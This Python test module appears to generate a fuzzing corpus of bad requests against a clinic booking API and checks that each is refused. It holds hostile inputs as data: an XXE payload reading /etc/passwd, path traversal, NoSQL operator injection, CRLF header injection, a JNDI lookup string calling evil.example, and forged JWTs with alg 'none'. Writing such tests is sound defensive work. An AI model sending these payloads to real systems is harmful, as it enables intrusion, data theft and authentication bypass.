"""Bad input, row by row of the catalogue (docs/fuzzing.md), for every route that it applies to.

Each case is one request and the refusal that the contract has for it. Nothing it says may be found
in the answer where it is `planted`, and nothing may be changed by it.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from typing import Any
from urllib.parse import quote

from tests.fuzz.requests import JSON, KEY, ROUTES, Route
from tests.fuzz.wire import Sent

PLANTED = "zq7canary"
"""Stands in what is refused; no answer and no log repeats it."""
A_KEY = "0123456789abcdef"
KIB = 1024


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """`status` and `code` are the contract's; None for the code of a success.

    `at_gateway` where a gateway may refuse the request itself, before there is a function to ask.
    """

    row: int
    route: str
    name: str
    sent: Sent
    status: int
    code: str | None
    at_gateway: bool = False


@dataclass(frozen=True, slots=True, kw_only=True)
class Given:
    """Good ids and tokens, to have one thing wrong at a time."""

    ids: Mapping[str, str]
    """Of each kind, one that its role may use."""
    others: Mapping[str, str]
    """Of each kind, one that is there and another's."""
    tokens: Mapping[str, str]

    def good(self, route: Route, **more: Any) -> Sent:
        body = route.body
        if body is not None and "slotId" in body:
            body = {**body, "slotId": self.ids["slot"]}
        token = None if route.is_public else self.tokens[route.role]
        key = A_KEY if route.name == "POST /bookings" else None
        return route.sent(token, self.ids.get(route.kind, ""), key=key, body=body, **more)


def corpus(given: Given) -> Iterator[Case]:
    """Every case, route by route."""
    for route in ROUTES.values():
        yield from of_route(route, given)
    yield from _no_routes(given)


def of_route(route: Route, given: Given) -> Iterator[Case]:
    for family in _FAMILIES:
        yield from family(route, given)


def _bad(row: int, route: Route, name: str, sent: Sent, **more: Any) -> Case:
    wanted = {"status": 400, "code": "invalid_request", **more}
    return Case(row=row, route=route.name, name=name, sent=sent, **wanted)


# --- bodies ---------------------------------------------------------------------------------------

MALFORMED: Mapping[str, tuple[int, bytes]] = {
    "truncated": (1, b'{"a": "zq7canary'),
    "blank": (1, b" "),
    "not JSON": (1, b"zq7canary"),
    "single quotes": (1, b"{'a': 1}"),
    "a comment": (1, b'{"a": 1} // zq7canary'),
    "a comma too many": (1, b'{"a": 1,}'),
    "two documents": (1, b"{}{}"),
    "byte order mark": (1, b"\xef\xbb\xbf{}"),
    "UTF-16": (1, '{"a": "b"}'.encode("utf-16")),
    "UTF-32": (1, '{"a": "b"}'.encode("utf-32-le")),
    "no UTF-8": (1, b'{"reason": "\xff\xfe"}'),
    "overlong UTF-8": (1, b'{"reason": "\xc0\xaf"}'),
    "a surrogate in UTF-8": (1, b'{"reason": "\xed\xa0\x80"}'),
    "beyond Unicode": (1, b'{"reason": "\xf4\x90\x80\x80"}'),
    "no UTF-8 in a name": (1, b'{"\xff": 1}'),
    "base64 of JSON": (1, base64.b64encode(b'{"a": 1}')),
    "a form": (1, b"a=1&b=2"),
    "XML": (1, b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'),
    "raw NUL": (1, b'{"a": "\x00"}'),
    "raw line end": (1, b'{"a": "\n"}'),
    "NaN": (2, b'{"a": NaN}'),
    "Infinity": (2, b'{"a": Infinity}'),
    "-Infinity": (2, b"[-Infinity]"),
    "a key twice": (2, b'{"status": "active", "status": "blocked"}'),
    "a key twice, escaped": (2, b'{"code": "123456", "c\\u006fde": "654321"}'),
    "a key twice, inside": (2, b'{"a": [{"b": 1, "b": 2}]}'),
    "nested too deep": (3, b'{"a":' * 21 + b"1" + b"}" * 21),
    "arrays without end": (3, b"[" * 8_000),
    "arrays to the end": (3, b"[" * 8_000 + b"]" * 8_000),
    "5,000 digits": (3, b'{"a": ' + b"9" * 5_000 + b"}"),
    "leading zero": (3, b'{"a": 01}'),
    "hexadecimal": (3, b'{"a": 0x10}'),
    "a lone surrogate": (8, b'{"a": "\\ud800"}'),
    "a lone surrogate for a name": (8, b'{"\\udfff": 1}'),
    "surrogates in the wrong order": (8, b'{"a": "\\udc00\\ud800"}'),
    "an array": (6, b"[]"),
    "an array of one": (6, b'[{"slotId": "a"}]'),
    "a text": (6, b'"zq7canary"'),
    "null": (6, b"null"),
    "a number": (6, b"5"),
    "true": (6, b"true"),
}
MEDIA_TYPES = [
    *("", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"),
    *("application/xml", "application/json-patch+json", "application/merge-patch+json"),
    *("application/jsonx", "json", "*/*", "application/json, text/plain", "application/ json"),
    *(f"text/{'x' * 5_000}", "application/bson", "application/x-java-serialized-object"),
]
ENCODINGS = ["gzip", "deflate", "br", "identity", "zstd", "GZIP", "gzip, gzip", "x" * 1_000]
MASS_ASSIGNMENT = [
    *(
        "status_",
        "role",
        "roles",
        "price",
        "userId",
        "user_id",
        "live",
        "version",
        "isAdmin",
        "_id",
    ),
    *("id", "__proto__", "constructor", "prototype", "$where", "$set", "$or", "a.b", "a\x00b", ""),
    *(
        "bookingId",
        "hold",
        "holdExpiresAt",
        "createdAt",
        "cognito:groups",
        "clinic_id",
        "__class__",
    ),
    *("model_config", "model_fields", "x" * 5_000, "é", "＄where"),
]
OPERATORS: list[Any] = [
    *({"$gt": ""}, {"$ne": None}, {"$regex": ".*"}, {"$in": ["a"]}, {"$where": "sleep(1)"}),
    *({"$exists": True}, {"$expr": {"$eq": [1, 1]}}, ["a"], [["a"]], {}),
]
TEXTS_NO_FIELD_TAKES = {
    "NUL": f"{PLANTED}\x00",
    "a control": f"{PLANTED}\x1b[2J",
    "C1": f"{PLANTED}\x9b",
    "delete": f"{PLANTED}\x7f",
    "right to left override": f"{PLANTED}\u202e",
    "an isolate": f"\u2066{PLANTED}",
    "zero width": f"{PLANTED}\u200b",
    "a line separator": f"{PLANTED}\u2028",
    "byte order mark inside": f"{PLANTED}\ufeff",
    "replacement character": f"{PLANTED}\ufffd",
    "no character": f"{PLANTED}\uffff",
    "combining marks": PLANTED + "\u0301" * 1_000,
    "long": PLANTED * 300,
    "long where four bytes are one": "\U0001f600" * 501,
}
ONE_LINE_ONLY = {
    "a header": f"{PLANTED}\r\nBcc: a@example.org",
    "a line end": f"{PLANTED}\n",
    "a tab": f"a\t{PLANTED}",
    "spaces around": f" {PLANTED} ",
    "no-break spaces around": f"\xa0{PLANTED}",
    "nothing": "",
    "blank": "   ",
}
ODD_NUMBERS: list[Any] = [
    *("1", True, False, 1.0, 1.5, 1e3, 2**63, -(2**63) - 1, 10**40, -1, "1_000", " 5 ", "５", "²"),
    *([], {}, "NaN", 1e308),
]
_NUMBERS = ("consultationFee", "slotMinutes")
_LINES = ("name", "specialty")


def _body(route: Route, given: Given, data: bytes) -> Sent:
    good = given.good(route)
    return replace(good, body=data, headers=good.with_header(*JSON[0]))


def _with(route: Route, given: Given, **changed: Any) -> Sent:
    return _body(route, given, json.dumps(json.loads(given.good(route).body) | changed).encode())


def _malformed(route: Route, given: Given) -> Iterator[Case]:
    if route.body is None:
        return
    for name, (row, data) in MALFORMED.items():
        yield _bad(row, route, name, _body(route, given, data))
    if not route.may_lack_body:
        yield _bad(1, route, "empty", replace(given.good(route), body=b""), **_EMPTY)


_EMPTY = {"status": 400}


def _sizes(route: Route, given: Given) -> Iterator[Case]:
    large = {"status": 413, "code": "payload_too_large"}
    if route.is_public:
        return
    if route.body is None:
        sent = replace(given.good(route), body=b" " * 64 * KIB)
        yield _bad(4, route, "64 KiB where no body is", sent, **large, at_gateway=True)
        return
    good = given.good(route).body
    for name, size in {
        "a byte too many": 16 * KIB + 1,
        "64 KiB": 64 * KIB,
        "1 MiB": KIB**2,
    }.items():
        sent = _body(route, given, good.ljust(size))
        yield _bad(4, route, name, sent, **large, at_gateway=True)
    wide = json.dumps({"a": "\u20ac" * (16 * KIB // 3)}, ensure_ascii=False).encode()
    yield _bad(4, route, "too many bytes, not characters", _body(route, given, wide), **large)


def _media_types(route: Route, given: Given) -> Iterator[Case]:
    if route.body is None:
        return
    good = given.good(route)
    wrong = {"status": 415, "code": "unsupported_media_type"}
    for kind in MEDIA_TYPES:
        headers = good.with_header("Content-Type", kind)
        yield _bad(5, route, f"type {kind[:40]!r}", replace(good, headers=headers), **wrong)
    none = replace(good, headers=good.with_header("Content-Type", None))
    yield _bad(5, route, "no type", none, **wrong)
    for coding in ENCODINGS:
        encoded = replace(good, headers=(*good.headers, ("Content-Encoding", coding)))
        yield _bad(5, route, f"encoding {coding[:40]!r}", encoded, **wrong)


def _fields(route: Route, given: Given) -> Iterator[Case]:
    if route.body is None:
        return
    for name in MASS_ASSIGNMENT:
        sent = _with(route, given, **{name: PLANTED})
        yield _bad(6, route, f"unknown {name[:20]!r}", sent)
    for name, value in route.body.items():
        for operator in OPERATORS:
            if isinstance(value, list) and isinstance(operator, list):
                continue
            sent = _with(route, given, **{name: operator})
            yield _bad(7, route, f"{name} {json.dumps(operator)}", sent)
        for why, text in TEXTS_NO_FIELD_TAKES.items():
            yield _bad(46, route, f"{name} {why}", _with(route, given, **{name: text}))
        for odd in ODD_NUMBERS if name in _NUMBERS else (1, True, 1.5, 2**63):
            yield _bad(10, route, f"{name} {odd!r}", _with(route, given, **{name: odd}))
        for why, text in ONE_LINE_ONLY.items() if name in _LINES else ():
            yield _bad(45, route, f"{name} {why}", _with(route, given, **{name: text}))


SPECIAL: Mapping[str, list[tuple[int, str, Any]]] = {
    "POST /bookings/{id}/verify-otp": [
        *((13, "code", code) for code in ("12345", "1234567", "", " 123456", "123456\n", "12 456")),
        *(
            (13, "code", code)
            for code in ("١٢٣٤٥٦", "１２３４５６", "12345²", "123456\x00", "+12345")
        ),
        *((13, "code", code) for code in ("0x1234", "1e5000", "-12345", "12345a", "123456" * 99)),
        *((13, "code", code) for code in (123456, 123456.0, None, ["123456"], {"$ne": "123456"})),
        *((13, "paymentMethod", method) for method in ("", "pm card", "pm_\u0000", "4242-4242")),
    ],
    "PUT /me": [
        *(
            (45, "phone", phone)
            for phone in ("+49zq7canary", "0049301234", "+0123456789", "+1 555")
        ),
        *((45, "phone", phone) for phone in ("+1555" * 40, "+١٥٥٥٠١٠٠٠", "+15550100;ext=1", "")),
        *(
            (45, "phone", phone)
            for phone in ("+15550100\r\nBcc: zq7canary", "tel:+15550100", "+1555")
        ),
        *((45, "email", email) for email in ("zq7canary", "a@b", "@example.org", "a@@example.org")),
        *(
            (45, "email", email)
            for email in ("a@example.org\r\nBcc: zq7canary@example.org", "a b@c.de")
        ),
        *(
            (45, "email", email)
            for email in (f"{'a' * 65}@example.org", f"a@{'b' * 250}.de", "а@b.de")
        ),
        *(
            (45, "email", email)
            for email in ('"zq7canary"@example.org', "a@[127.0.0.1]", "a@b.de,c@d.de")
        ),
        *(
            (6, "timeZone", zone)
            for zone in ("../../etc/passwd", "Mars/zq7canary", "localtime", "UTC\n")
        ),
        *(
            (6, "timeZone", zone)
            for zone in ("/etc/localtime", "Europe/Berlin\x00", "posix/UTC", "")
        ),
        *(
            (6, "locale", locale)
            for locale in ("en_GB", "e", "en-", "en\n", "x" * 40, "<zq7canary>")
        ),
        *((6, "preferredChannel", way) for way in ("fax", "SMS", "", "sms\n", "sms,email")),
    ],
    "POST /bookings": [
        *(
            (9, "slotId", id_)
            for id_ in ("", "a b", "a/b", "../a", "a\n", "x" * 65, "x" * 10_000, "é")
        ),
        *((6, "channel", way) for way in ("fax", "SMS", "", "sms\n")),
        *((9, "replaces", id_) for id_ in ("", "a b", "a\x00", "x" * 65, "$ne")),
    ],
    "POST /doctors": [
        *((9, "clinicId", id_) for id_ in ("", "a b", "../a", "x" * 65, "clinic-1\n")),
        *((6, "timeZone", zone) for zone in ("../../etc/passwd", "europe/zq7canary", "UTC ", "")),
        *((10, "consultationFee", fee) for fee in (-1, 1_000_000_001, -0.0, "4500")),
    ],
    "POST /doctors/{id}/schedules": [
        *((35, "from", day) for day in ("2098-02-29", "2099-13-01", "0000-01-01", "10000-01-01")),
        *((35, "from", day) for day in ("2099-W09-1", "20990101", "2099-1-1", "1999-12-31", "")),
        *(
            (35, "to", day)
            for day in ("2098-12-31", "2100-06-01", "2200-01-01", "2099-01-31T00:00")
        ),
        *((35, "holidays", days) for days in (["2099-02-30"], ["x"], [None], ["2099-01-01"] * 367)),
        *(
            (37, "weekly", [{"day": "mon", "start": s, "end": e}])
            for s, e in (
                *(("09:00", "09:00"), ("12:00", "09:00"), ("24:00", "24:00"), ("9:00", "10:00")),
                *(
                    ("09:00", "24:01"),
                    ("09:00", "23:59:60"),
                    ("٠٩:٠٠", "10:00"),
                    ("09:00\n", "10:00"),
                ),
            )
        ),
        *(
            (6, "weekly", [{"day": day, "start": "09:00", "end": "10:00"}])
            for day in (*(0, 8, -1, "Monday", "mo", True, 1.0, "1", None, {"$gt": 0}),)
        ),
        (3, "weekly", [{"day": 1, "start": "09:00", "end": "10:00"}] * 51),
        (3, "breaks", [{"start": "09:00", "end": "10:00"}] * 51),
        (6, "weekly", []),
        (6, "weekly", [{"day": 1, "start": "09:00", "end": "10:00", "extra": PLANTED}]),
        *((11, "slotMinutes", minutes) for minutes in (0, 4, 481, 10**9)),
    ],
    "PATCH /doctors/{id}/slots": [
        *((37, "from", at) for at in ("2099-01-05T00:00:00", "2099-01-05", "2099-01-05 00:00:00Z")),
        *((37, "from", at) for at in ("2099-01-05T24:00:00Z", "2099-01-05T23:59:60Z", "yesterday")),
        *((37, "from", at) for at in ("2099-02-29T00:00:00Z", "0001-01-01T00:00:00+23:59", "")),
        *(
            (37, "from", at)
            for at in ("2099-01-05T00:00:00+24:00", "٢٠٩٩-01-05T00:00:00Z", 4_070_908_800)
        ),
        *(
            (37, "to", at)
            for at in ("2099-01-05T00:00:00Z", "2099-01-01T00:00:00Z", "2099-06-01T00:00:00Z")
        ),
        *((6, "status", status) for status in ("booked", "reserved", "", "Blocked", "removed\n")),
    ],
    "PATCH /slots/{id}": [
        *((6, "status", status) for status in ("booked", "reserved", "removed", "", "BLOCKED")),
    ],
    "PATCH /doctors/{id}": [
        *((6, name, None) for name in ("name", "specialty", "timeZone")),
        (6, "clinicId", "clinic-2"),
    ],
}


def _special(route: Route, given: Given) -> Iterator[Case]:
    for row, field, value in SPECIAL.get(route.name, []):
        shown = json.dumps(value)[:60]
        yield _bad(row, route, f"{field} = {shown}", _with(route, given, **{field: value}))
    if route.name == "PATCH /doctors/{id}":
        yield _bad(6, route, "nothing to change", _body(route, given, b"{}"))
    if route.name == "PUT /me":
        folded = json.dumps({"name": PLANTED}).encode()
        yield _bad(6, route, "another model's field", _body(route, given, folded))


# --- queries --------------------------------------------------------------------------------------

_PAGES = [
    *((11, query) for query in ("limit=0", "limit=-1", "limit=101", "page=0", "page=-1")),
    *((11, query) for query in ("page=1000000000000", "page=10000&limit=100", "limit=%2B5")),
    *(
        (10, query)
        for query in ("limit=many", "limit=1.0", "limit=1e1", "limit=1_0", "limit=%C2%B2")
    ),
    *(
        (10, query)
        for query in ("limit=%205", "limit=5%20", "limit=true", "limit=", "limit=%D9%A5")
    ),
    *(
        (10, query)
        for query in ("limit=0x5", "limit=05%00", "page=NaN", "page=9223372036854775808")
    ),
    *((8, query) for query in ("limit=1&limit=2", "page=1&page=1", "limit[$gt]=1", "page[]=1")),
    *((8, query) for query in ("limit[$ne]=", "unknown=1", "%24where=1", "$where=sleep(1)", "=1")),
    *((8, query) for query in ("a%00b=1", "limit%00=1", "Limit=1", "LIMIT=1", "limit%20=1")),
    *((8, query) for query in ("token=zq7canary", "access_token=zq7canary", f"{'x' * 3_000}=1")),
    *((8, query) for query in ("__proto__=1", "user_id=1", "userId=1", "limit=1;page=2")),
]
_CURSOR_FIELDS: list[Any] = [
    *([0, "a", "b"], [10**30, "a", "b"], [{"$gt": ""}, "a", "b"], ["a", {"$gt": ""}, "b"]),
    *([True, "a", "b"], [0, "a"], {"a": 1}, [0, "a", "b", "c"], [None] * 3, [[[[]]]]),
]


def _cursor_of(fields: Any) -> str:
    """A cursor in the form of ours, of whatever fields."""
    return base64.urlsafe_b64encode(json.dumps(fields).encode()).decode().rstrip("=")


_CURSORS = [
    *((12, f"cursor={c}") for c in ("", "nonsense", "e30", "W10", "bnVsbA", "x" * 1_025, "%00")),
    *((12, f"cursor={c}") for c in ("..%2F..", "W251bGwsbnVsbCxudWxsXQ", "%F0%9F%99%82", "a.b.c")),
    *((12, f"cursor={_cursor_of(fields)}") for fields in _CURSOR_FIELDS),
]
_STARTS = [
    *(
        (37, f"{name}={at}")
        for name in ("from", "to")
        for at in (
            *("2027-01-01T09:00:00", "2027-01-01", "yesterday", "2027-02-29T00:00:00Z", "", "0"),
            *("2027-01-01T24:00:00Z", "2027-01-01T09:00:60Z", "2027-01-01T09:00:00%2B99:00"),
            *("0000-01-01T00:00:00Z", "10000-01-01T00:00:00Z", "2027-03-29T02:30:00", "%00"),
            *("2027-01-01T09:00:00.0000000001Z", "2027-01-01t09:00:00z", '{"$gt":1}'),
        )
    ),
    (37, "from=2027-01-02T00:00:00Z&to=2027-01-01T00:00:00Z"),
    (37, "from=2027-01-02T00:00:00Z&to=2027-01-02T00:00:00Z"),
    (37, "from=0001-01-01T00:00:00%2B23:59"),
    (37, "to=9999-12-31T23:59:59-23:59"),
]
_DATES = [
    (35, f"date={day}")
    for day in (
        *("2025-02-29", "2026-13-01", "0000-01-01", "10000-01-01", "2025-W09-1", "20260101"),
        *("2026-1-1", "today", "", "2026-01-01T00:00:00Z", "%D9%A2026-01-01", "2026-01-01%00"),
        *("2026-01-01%0A", "-2026-01-01", "x" * 2_000),
    )
] + [(8, "date[$gt]=2026-01-01"), (8, "date=2026-01-01&date=2026-01-02")]
_STATUSES = [
    (6, f"status={status}")
    for status in ("", "CONFIRMED", "booked", "confirmed%00", "$ne", "x" * 999)
] + [(8, "status[$ne]=confirmed"), (8, "status=confirmed&status=cancelled")]
_SPECIALTIES = [
    (46, f"specialty={text}")
    for text in (
        *("", "%00", "a%0D%0AX:%20b", "%E2%80%AE", "%20a", "a%20", "x" * 101, "%ED%A0%80", "%FF"),
        *("%EF%BF%BD", "%0A", "%EF%BF%BF"),
    )
] + [(8, "specialty[$regex]=.*"), (8, "specialty=a&specialty=b")]
QUERIES: Mapping[str, list[tuple[int, str]]] = {
    "GET /doctors": [*_PAGES, *_CURSORS, *_SPECIALTIES],
    "GET /doctors/{id}/slots": [*_PAGES, *_CURSORS, *_STARTS, *_DATES],
    "GET /bookings": [*_PAGES, *_CURSORS, *_STARTS, *_STATUSES],
    "PATCH /bookings/{id}/reschedule": [*_PAGES, *_DATES, (12, "cursor=e30")],
}
TAKEN = {
    "GET /doctors/{id}/slots": [
        (36, "date=2028-02-29"),
        (38, "from=2026-10-25T02:30:00%2B01:00&to=2026-10-25T02:45:00%2B01:00"),
        (38, "from=2026-10-25T02:30:00%2B02:00&to=2026-10-25T02:30:00%2B01:00"),
        (37, "from=2027-01-01T09:00:00.123456789Z"),
    ],
    "GET /doctors": [(46, "specialty=Zahn%C3%A4rztin"), (46, "specialty=%F0%9F%A6%B7")],
}
NO_PARAMETERS = ["a=1", "limit=1", "$where=1", "id=1", "userId=zq7canary", "a%00=1", "a=1&a=2"]


def _queries(route: Route, given: Given) -> Iterator[Case]:
    good = given.good(route)
    for row, query in QUERIES.get(route.name, []):
        sent = replace(good, target=f"{good.target}?{query}")
        yield _bad(row, route, f"?{query[:60]}", sent)
    for row, query in TAKEN.get(route.name, []):
        sent = replace(good, target=f"{good.target}?{query}")
        yield _bad(row, route, f"?{query}", sent, status=200, code=None)
    if not route.query and not route.is_public:
        for query in NO_PARAMETERS:
            sent = replace(good, target=f"{good.target}?{query}")
            yield _bad(8, route, f"?{query}", sent)


# --- paths ----------------------------------------------------------------------------------------

BAD_IDS = {
    "a space": "a%20b",
    "NUL": "a%00b",
    "a line end": "a%0A",
    "a header": "a%0D%0ASet-Cookie:%20zq7canary",
    "an operator": "%24ne",
    "brackets": "[$ne]",
    "an object": "%7B%22%24gt%22%3A%22%22%7D",
    "65 letters": "x" * 65,
    "3,000 letters": "x" * 3_000,
    "dots": "..",
    "dots, encoded": "%2E%2E",
    "dots, encoded twice": "%252E%252E",
    "a null, encoded twice": "a%2500",
    "a parameter": "a;b=c",
    "letters of another script": "%D0%B0bc",
    "full width": "%EF%BD%81",
    "no UTF-8": "a%FF",
    "overlong UTF-8": "%C0%AE%C0%AE",
    "a surrogate": "%ED%A0%80",
    "a star": "*",
    "a variable": "%7Bid%7D",
    "a quote": "a'--",
    "a template": "%24%7Ba%7D",
    "a percent sign": "100%25",
}
SLASHES = {
    "an encoded slash": "a%2Fb",
    "a path": "..%2F..%2Fetc%2Fpasswd",
    "an encoded backslash": "..%5C..%5Ca",
    "encoded twice": "..%252F..%252Fa",
}


def _paths(route: Route, given: Given) -> Iterator[Case]:
    if not route.kind:
        return
    good = given.good(route)
    for why, id_ in {**BAD_IDS, **SLASHES}.items():
        sent = replace(good, target=route.target(id_, is_raw=True))
        # What a gateway decodes before it looks for the route may be no route of ours to it.
        yield _bad(9, route, f"id {why}", sent, at_gateway=True)
    unknown = f"{given.ids[route.kind][:3]}nobody-{PLANTED}"
    shown = {"status": 404, "code": "not_found"}
    yield _bad(9, route, "id of nothing", replace(good, target=route.target(unknown)), **shown)
    if (other := given.others.get(route.kind)) and not _is_public(route):
        foreign = replace(good, target=route.target(other))
        yield _bad(19, route, "id of another's", foreign, **shown)


def _is_public(route: Route) -> bool:
    """Whether any patient may see any of it."""
    return route.role == "patient" and route.kind == "doctor"


# --- headers --------------------------------------------------------------------------------------

KEYS = {
    "empty": "",
    "short": "a" * 15,
    "long": "a" * 129,
    "very long": "a" * 7_000,
    "a space": "0123456789 abcdef",
    "a slash": "0123456789/abcdef",
    "a dollar": "$0123456789abcdef",
    "not ASCII": "0123456789abcdéf",
    "half quoted": f'"{A_KEY}',
    "single quoted": f"'{A_KEY}'",
    "two in one": f"{A_KEY}, {A_KEY}",
    "a parameter": f'"{A_KEY}";a=1',
    "an object": '{"$gt": ""}0123456789',
}
TAGS = [
    *(
        "1",
        "'1'",
        '"1',
        '1"',
        '"1" "2"',
        '"a\x01"',
        "*, *",
        '"' * 50,
        f'"{"x" * 129}"',
        "W/1",
        '"é"',
    ),
    *('w/"1"', '{"$gt": 0}', ",", '"1",,"2"', "x" * 5_000),
]
SPOOFED = {
    "X-Forwarded-For": "203.0.113.9, 10.0.0.1",
    "X-Real-IP": "127.0.0.1",
    "Forwarded": "for=127.0.0.1;proto=https",
    "X-User-Id": "root",
    "X-Amzn-Oidc-Identity": "root",
    "X-Amzn-Trace-Id": f"Root={PLANTED}",
    "X-Amz-Security-Token": PLANTED,
    "X-HTTP-Method-Override": "DELETE",
    "X-HTTP-Method": "DELETE",
    "X-Method-Override": "PUT",
    "X-Original-URL": "/doctors",
    "X-Rewrite-URL": "/me",
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Prefix": "/evil",
    "X-Request-Id": PLANTED,
    "X-Correlation-Id": f"{PLANTED}%0d%0aSet-Cookie:a=b",
    "X-Role": "admin",
    "Cookie": f"session={PLANTED}; role=admin",
    "Origin": "https://evil.example",
    "Referer": f"https://evil.example/{PLANTED}",
    "User-Agent": "${jndi:ldap://evil.example/a}",
    "Accept": "text/html",
    "Accept-Encoding": "gzip;q=1, zq7;q=0",
    "Accept-Language": "x" * 2_000,
    "Range": "bytes=0-1,0-2,0-3",
    "TE": "trailers",
    "Expect-CT": "x",
    "If-Modified-Since": "yesterday",
    "If-Unmodified-Since": "0",
    "Transfer-Encoding-": "chunked",
    "Prefer": "respond-async",
}


def _headers(route: Route, given: Given) -> Iterator[Case]:
    good = given.good(route)
    if route.takes_key:
        for why, key in KEYS.items():
            sent = replace(good, headers=good.with_header(KEY, key))
            yield _bad(29, route, f"key {why}", sent)
        two = replace(good, headers=(*good.with_header(KEY, A_KEY), (KEY.lower(), A_KEY)))
        yield _bad(29, route, "two keys", two)
    if route.name == "POST /bookings":
        none = replace(good, headers=good.with_header(KEY, None))
        yield _bad(28, route, "no key", none)
    if route.takes_if_match:
        for tag in TAGS:
            sent = replace(good, headers=good.with_header("If-Match", tag))
            yield _bad(44, route, f"If-Match {tag[:30]!r}", sent)
        other = replace(good, headers=good.with_header("If-Match", '"999999999"'))
        yield _bad(44, route, "another version", other, status=412, code="precondition_failed")
        weak = replace(good, headers=good.with_header("If-Match", 'W/"1"'))
        yield _bad(44, route, "a weak tag", weak, status=412, code="precondition_failed")
    if route.method == "GET":
        for name, value in SPOOFED.items():
            sent = replace(good, headers=(*good.headers, (name, value)))
            yield _bad(26, route, name, sent, status=200, code=None)


# --- who asks -------------------------------------------------------------------------------------

_NONE = base64.urlsafe_b64encode(b'{"alg":"none","kid":"rsa-1"}').decode().rstrip("=")
NOBODY = {
    "no token": None,
    "empty": "",
    "the scheme alone": "Bearer",
    "a blank token": "Bearer ",
    "another scheme": "Basic YWRtaW46YWRtaW4=",
    "no scheme": "a.b.c",
    "garbage": f"Bearer {PLANTED}",
    "three parts of garbage": f"Bearer {PLANTED}.{PLANTED}.{PLANTED}",
    "no algorithm": f"Bearer {_NONE}.eyJzdWIiOiJyb290In0.",
    "dots": "Bearer ...",
    "long": f"Bearer {'x' * 9_000}",
    "not ASCII": "Bearer é.é.é",
    "an object": 'Bearer {"$gt": ""}',
}


def _callers(route: Route, given: Given) -> Iterator[Case]:
    if route.is_public:
        return
    good = given.good(route)
    refused = {"status": 401, "code": "unauthenticated"}
    for why, value in NOBODY.items():
        sent = replace(good, headers=good.with_header("Authorization", value))
        yield _bad(21, route, why, sent, **refused, at_gateway=len(value or "") > 8_000)
    token = str(good.header("Authorization"))
    twice = replace(good, headers=(*good.headers, ("authorization", token)))
    yield _bad(21, route, "two tokens", twice, **refused)
    head, payload, signature = token.split(".")
    for why, forged in {
        "no signature": f"{head}.{payload}.",
        "another signature": f"{head}.{payload}.{'A' * len(signature)}",
        "another payload": f"{head}.eyJzdWIiOiJyb290In0.{signature}",
        "four parts": f"{token}.{signature}",
        "no algorithm, signed": f"Bearer {_NONE}.{payload}.{signature}",
    }.items():
        sent = replace(good, headers=good.with_header("Authorization", forged))
        yield _bad(22, route, why, sent, **refused)
    in_query = replace(
        good,
        target=f"{good.target}?access_token={quote(token.partition(' ')[2])}",
        headers=good.with_header("Authorization", None),
    )
    yield _bad(21, route, "a token in the query", in_query, **refused)
    if route.role == "staff" or route.name in _PATIENTS_ONLY:
        others = ("patient",) if route.role == "staff" else ("staff", "admin")
        for role in others:
            sent = replace(good, headers=good.with_header("Authorization", given.tokens[role]))
            yield _bad(20, route, f"asked by {role}", sent, status=403, code="forbidden")


_PATIENTS_ONLY = (
    "POST /bookings",
    "POST /bookings/{id}/verify-otp",
    "POST /bookings/{id}/resend-otp",
    "DELETE /bookings/{id}/hold",
)

# --- methods and routes that are not there --------------------------------------------------------

METHODS = [
    "HEAD",
    "OPTIONS",
    "TRACE",
    "PUT",
    "DELETE",
    "POST",
    "PATCH",
    "GET",
    "PROPFIND",
    "get",
    "X",
]
_NOWHERE = {"status": 404, "code": "not_found", "at_gateway": True}


def _methods(route: Route, given: Given) -> Iterator[Case]:
    declared = {other.method for other in ROUTES.values() if other.path == route.path}
    if route.method != min(declared):
        return  # once for each path
    good = given.good(route)
    for method in METHODS:
        if method not in declared:
            headers = (*good.headers, ("X-HTTP-Method-Override", route.method))
            sent = replace(good, method=method, headers=headers)
            yield _bad(27, route, f"{method} {route.path}", sent, **_NOWHERE)


NO_ROUTES = [
    *("//bookings", "/bookings//", "/Bookings", "/BOOKINGS", "/bookings/../me", "/./me", "/me/."),
    *(
        "/bookings/a/b/c",
        "/admin",
        "/.env",
        "/.git/config",
        "/health/ready",
        "/bookings;a=b",
        "/me%00",
    ),
    *(
        "/%2e%2e/me",
        "/me%2F",
        "/%6De",
        "/bookings/a/verify-otp/",
        "/bookings/a/VERIFY-OTP",
        "/me/..",
    ),
    *(
        "/$metrics",
        "/actuator",
        "/__health",
        "/doctors/a/slots/b",
        "/bookings/a/calendar.ICS",
        "/*",
    ),
]
"""Some are routes to some gateways: those answer as the route does."""


def _no_routes(given: Given) -> Iterator[Case]:
    headers = (("Authorization", given.tokens["patient"]),)
    for path in NO_ROUTES:
        sent = Sent(method="GET", target=path, headers=headers)
        yield Case(
            row=27,
            route="nowhere",
            name=path,
            sent=sent,
            status=404,
            code="not_found",
            at_gateway=True,
        )


_FAMILIES: tuple[Callable[[Route, Given], Iterator[Case]], ...] = (
    *(_malformed, _sizes, _media_types, _fields, _special, _queries, _paths, _headers, _callers),
    _methods,
)
